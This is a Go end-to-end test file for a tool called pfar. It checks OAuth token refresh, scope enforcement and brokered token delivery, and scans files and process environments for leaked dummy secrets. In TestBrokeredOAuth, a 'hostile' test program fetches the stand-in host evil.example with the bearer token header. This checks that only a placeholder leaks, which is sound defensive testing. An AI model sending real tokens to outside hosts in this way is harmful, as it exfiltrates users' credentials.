package e2e

import (
	"bytes"
	"encoding/pem"
	"fmt"
	"io"
	"io/fs"
	"log"
	"net/http"
	"net/http/httptest"
	"os"
	"path/filepath"
	"strings"
	"sync"
	"testing"
	"time"

	"github.com/pfar/pfar/policies/redact"
	"github.com/pfar/pfar/units/control"
)

// identity is a token endpoint on loopback that gives out 1, 2 and so on with zeros before them, which is too plain to
// be kept out of results, and takes each refresh token once.
type identity struct {
	*httptest.Server
	mu    sync.Mutex
	n     int
	wants string        // the refresh token that is good
	scope string        // that it says it grants; "": nothing
	begun chan struct{} // gets one for each request
}

// newIdentity knows the refresh token RT-0. Its certificate is in a file, by whose path pfar is to know it.
func newIdentity(t *testing.T) (i *identity, roots string) {
	t.Helper()
	i = &identity{wants: "RT-0-hunter2hunter2", begun: make(chan struct{}, 100)}
	i.Server = httptest.NewUnstartedServer(i)
	i.Config.ErrorLog = log.New(io.Discard, "", 0)
	i.StartTLS()
	t.Cleanup(i.Close)
	roots = filepath.Join(directory(t, ""), "roots.pem")
	text := pem.EncodeToMemory(&pem.Block{Type: "CERTIFICATE", Bytes: i.Certificate().Raw})
	check(t, os.WriteFile(roots, text, 0o644))
	return i, roots
}

func (i *identity) ServeHTTP(w http.ResponseWriter, q *http.Request) {
	i.mu.Lock()
	defer i.mu.Unlock()
	i.begun <- struct{}{}
	_, secret, _ := q.BasicAuth()
	w.Header().Set("Content-Type", "application/json")
	if q.FormValue("refresh_token") != i.wants || secret != "CS-hunter2" {
		w.WriteHeader(http.StatusBadRequest)
		fmt.Fprint(w, `{"error":"invalid_grant"}`)
		return
	}
	i.n++
	i.wants = fmt.Sprintf("RT-%d-hunter2hunter2", i.n)
	fmt.Fprintf(w, `{"access_token":"%016d","refresh_token":%q,"token_type":"bearer","expires_in":3600,"scope":%q}`, i.n, i.wants, i.scope)
}

// tokens is a set that ends after so many seconds.
func (i *identity) tokens(life int) string {
	return fmt.Sprintf(`{"access_token":"AT-0","refresh_token":"RT-0-hunter2hunter2","expires_in":%d,"token_url":%q,"client_id":"id","client_secret":"CS-hunter2"}`, life, i.URL+"/token")
}

// TestOAuth: a server gets a token that lives for seconds, a call of it is under way when that is refreshed, and once
// it has ended the server has the new one. What only refreshes the token is nowhere else.
func TestOAuth(t *testing.T) {
	t.Parallel()
	i, roots := newIdentity(t)
	p := prepare(t, map[string]string{"drive.hcl": echo(t) + "auth = { TOKEN = \"vault:drive\" }\n"})
	p.env = append(p.env, "SSL_CERT_FILE="+roots)
	told := filepath.Join(p.home, "told")
	hook := "#!/bin/sh\necho \"$PFAR_SERVER:$PFAR_KEY:$PFAR_REASON\" > " + told + ".new && mv " + told + ".new " + told + "\n"
	check(t, os.WriteFile(filepath.Join(p.home, "on-failure"), []byte(hook), 0o755))
	p.up()
	p.await("drive waiting", soon, inState("drive", control.Waiting))
	p.stdin = `{"access_token":"AT-hunter2","refresh_token":"RT-hunter2"}`
	if _, stderr, code := p.command("vault", "set", "drive", "--oauth"); code == 0 || !strings.Contains(stderr, "token_url is missing") || strings.Contains(stderr, "hunter2") {
		t.Errorf("half a set: %d, %s", code, stderr)
	}
	p.stdin = i.tokens(100) // refreshed after half of it, so that a busy machine asks the server before
	if _, stderr, code := p.command("vault", "set", "drive", "--oauth"); code != 0 {
		t.Fatal(stderr)
	}
	p.awaitRunning("drive")
	c := p.client("/mcp")
	token := func() string {
		for line := range strings.SplitSeq(c.must("drive__environment", nil), "\n") {
			if value, ok := strings.CutPrefix(line, "TOKEN="); ok {
				return value
			}
		}
		return ""
	}
	if got := token(); got != "AT-0" {
		t.Errorf("at first it has %q", got)
	}
	slept := make(chan string, 1)
	go func() { slept <- c.must("drive__sleep", map[string]any{"milliseconds": 55000}) }()
	select {
	case <-i.begun:
	case <-time.After(soon):
		t.Fatalf("nothing is refreshed: %s", p.stderr)
	}
	seen := p.mark()
	if got := <-slept; got == "" {
		t.Error("the call that was under way has failed")
	}
	p.awaitFrom(seen, "another process", soon, func(r control.Report) bool { return server(r, "drive").State != control.Running })
	if got := token(); got != "0000000000000001" { // it waits until the server is there
		t.Errorf("afterwards it has %q", got)
	}
	out, _, _ := p.command("vault", "list")
	if !strings.Contains(out, "drive") || !strings.Contains(out, "oauth") || !strings.Contains(out, "in 59m") || strings.Contains(out, "hunter2") {
		t.Errorf("the list says %s", out)
	}
	p.search(t, "RT-0-hunter2hunter2", "RT-1-hunter2hunter2", "CS-hunter2")

	p.stdin = i.tokens(1) // whose refresh token has been used
	if _, stderr, code := p.command("vault", "set", "drive", "--oauth"); code != 0 {
		t.Fatal(stderr)
	}
	const refused = `the refresh token of "drive" was refused (invalid_grant): obtain a new one and store it with pfar vault set drive --oauth`
	p.await("a refusal", soon, func(r control.Report) bool { return strings.Contains(server(r, "drive").Detail, refused) })
	if out, _, _ := p.command("vault", "list"); !strings.Contains(out, refused) {
		t.Errorf("the list says %s", out)
	}
	eventually(t, func() bool { b, _ := os.ReadFile(told); return string(b) == ":drive:"+refused+"\n" })
	if !strings.Contains(p.stderr.String(), "(invalid_grant): obtain a new one") {
		t.Errorf("the log does not say so: %s", p.stderr)
	}
	p.search(t, "RT-0-hunter2hunter2", "RT-1-hunter2hunter2", "CS-hunter2")
}

// TestScopes: a server that requires a scope waits for a token that has it, and stops when a refresh takes that away.
func TestScopes(t *testing.T) {
	t.Parallel()
	i, roots := newIdentity(t)
	i.scope = "files:read"
	p := prepare(t, map[string]string{"drive.hcl": echo(t) + "auth = { TOKEN = \"vault:drive\", scopes = [\"files:read\", \"files:write\"] }\n"})
	p.env = append(p.env, "SSL_CERT_FILE="+roots)
	p.up()
	p.await("drive waiting", soon, inState("drive", control.Waiting))
	store := func(life int, scope string) string {
		t.Helper()
		p.stdin = strings.Replace(i.tokens(life), "{", fmt.Sprintf(`{"scope":%q,`, scope), 1)
		stdout, stderr, code := p.command("vault", "set", "drive", "--oauth")
		if code != 0 {
			t.Fatal(stderr)
		}
		return stdout
	}
	const lacks = `the OAuth token "drive" was not granted "files:write": obtain one that was and store it with pfar vault set drive --oauth, or correct scopes in the declaration`
	if out := store(3600, "files:read"); out != "drive: waits: "+lacks+"\n" {
		t.Errorf("who stores it hears %q", out)
	}
	p.await("the reason", soon, func(r control.Report) bool {
		return server(r, "drive").State == control.Waiting && server(r, "drive").Detail == "for credentials: "+lacks
	})
	store(60, "files:read files:write")
	p.awaitRunning("drive")
	if out, _, _ := p.command("vault", "list"); !strings.Contains(out, "drive: granted files:read, files:write\n") {
		t.Errorf("the list says %s", out)
	}
	p.await("the refresh", soon, func(r control.Report) bool { return server(r, "drive").Detail == "for credentials: "+lacks })
	store(3600, "files:write,files:read")
	p.awaitRunning("drive")
}

// TestBrokeredOAuth: the API alone sees a token that a login has obtained. It sees the new token in place of the same
// placeholder once there is one, from a server that is not started again, and the old one never more.
func TestBrokeredOAuth(t *testing.T) {
	if os.Getuid() != 0 {
		return // another network takes root, and the test has run as root
	}
	t.Parallel()
	requests, wrap := startAPIs(t)
	p := prepare(t, map[string]string{"drive.hcl": `allowed_domains = ["api.github.com", "evil.example"]` + "\n" +
		declare(program(t, "hostile"), nil, `auth = { TOKEN = { secret = "vault:drive", deliver = "broker", hosts = ["api.github.com"] } }`)})
	p.configure("acme", `client_id = "id"
key = "drive"
device {
  url   = "https://api.github.com/device"
  token = "https://api.github.com/token"
}`)
	p.up(wrap...)
	p.await("drive waiting", soon, inState("drive", control.NeedsLogin))
	if stdout, stderr, code := p.command("login", "drive", "--device"); code != 0 || strings.Contains(stdout+stderr,
		githubToken) {
		t.Fatal(stdout, stderr)
	}
	for _, path := range []string{"/device", "/token"} {
		if q := <-requests; q.Path != path || q.Host != "api.github.com" {
			t.Fatalf("the login asks for %+v", q)
		}
	}
	before := server(p.awaitRunning("drive"), "drive").PID
	c := p.client("/mcp/drive")
	var refreshed bool
	seen := func(host string) (authorization string) {
		t.Helper()
		r, err := c.call("fetch", map[string]any{"method": "GET", "url": "https://" + host + "/echo", "headers": map[string]any{"Authorization": "Bearer $TOKEN"}})
		check(t, err)
		for _, form := range append(redact.Forms(githubToken), redact.Forms(githubToken2)...) {
			if strings.Contains(r.text, form) {
				t.Errorf("the server sees %q", form)
			}
		}
		for {
			select {
			case q := <-requests:
				if q.Path == "/echo" && q.Host == host {
					return strings.TrimPrefix(q.Authorization, "Bearer ")
				}
				if q.Path == "/token" && !refreshed {
					refreshed = true
				} else {
					t.Errorf("there is a request of %+v", q)
				}
			case <-time.After(soon):
				t.Fatal("the request has not arrived")
			}
		}
	}
	placeholder := seen("evil.example")
	if got := seen("api.github.com"); got != githubToken || len(placeholder) != len(githubToken) || placeholder == githubToken {
		t.Fatalf("at first the API sees %q, and another host %q", got, placeholder)
	}
	eventually(t, func() bool {
		switch got := seen("api.github.com"); got {
		case githubToken2:
			return true
		case githubToken:
		default:
			t.Fatalf("the API sees %q", got)
		}
		return false
	})
	if !refreshed {
		t.Error("the API sees the new token, and nobody has asked for it")
	}
	for range 30 {
		if got := seen("api.github.com"); got != githubToken2 {
			t.Errorf("afterwards the API sees %q", got)
		}
	}
	if got := seen("evil.example"); got != placeholder {
		t.Errorf("the placeholder is %q, and was %q", got, placeholder)
	}
	if after := server(p.awaitRunning("drive"), "drive").PID; after != before {
		t.Error("the server was started again")
	}
	p.search(t, githubToken, githubToken2, "RT-0-hunter2hunter2", "RT-1-hunter2hunter2", "CS-hunter2")
}

func eventually(t testing.TB, met func() bool) {
	t.Helper()
	for end := time.Now().Add(soon); !met(); time.Sleep(50 * time.Millisecond) {
		if time.Now().After(end) {
			t.Fatal("not within " + soon.String())
		}
	}
}

// search looks for values where they must not be: files, what pfar says, arguments and environments of processes.
func (p *pfar) search(t *testing.T, values ...string) {
	t.Helper()
	look := func(where string, b []byte) {
		for _, v := range values {
			if bytes.Contains(b, []byte(v)) {
				t.Errorf("%s has %s", where, v)
			}
		}
	}
	for _, dir := range []string{p.home, p.run} {
		err := filepath.WalkDir(dir, func(path string, d fs.DirEntry, err error) error {
			if err == nil && d.Type().IsRegular() {
				b, rerr := os.ReadFile(path)
				look(path, b)
				err = rerr
			}
			if os.IsNotExist(err) || os.IsPermission(err) {
				return nil // it went, or is another user's
			}
			return err
		})
		check(t, err)
	}
	for _, args := range [][]string{{"plan"}, {"explain", p.path("drive.hcl")}, {"status", "--json"}, {"vault", "list", "--json"}} {
		out, errs, _ := p.command(args...)
		look(fmt.Sprintf("pfar %s", args), []byte(out+errs))
	}
	look("pfar up", []byte(p.stderr.String()))
	n := 0
	for _, process := range descendants(p.cmd.Process.Pid) {
		for _, file := range []string{"cmdline", "environ"} {
			b, err := os.ReadFile(fmt.Sprintf("/proc/%d/%s", process.pid, file))
			look(fmt.Sprintf("%s of process %d", file, process.pid), b)
			if err == nil && len(b) > 0 {
				n++
			}
		}
	}
	if n < 4 {
		t.Errorf("only %d arguments and environments could be read", n)
	}
}
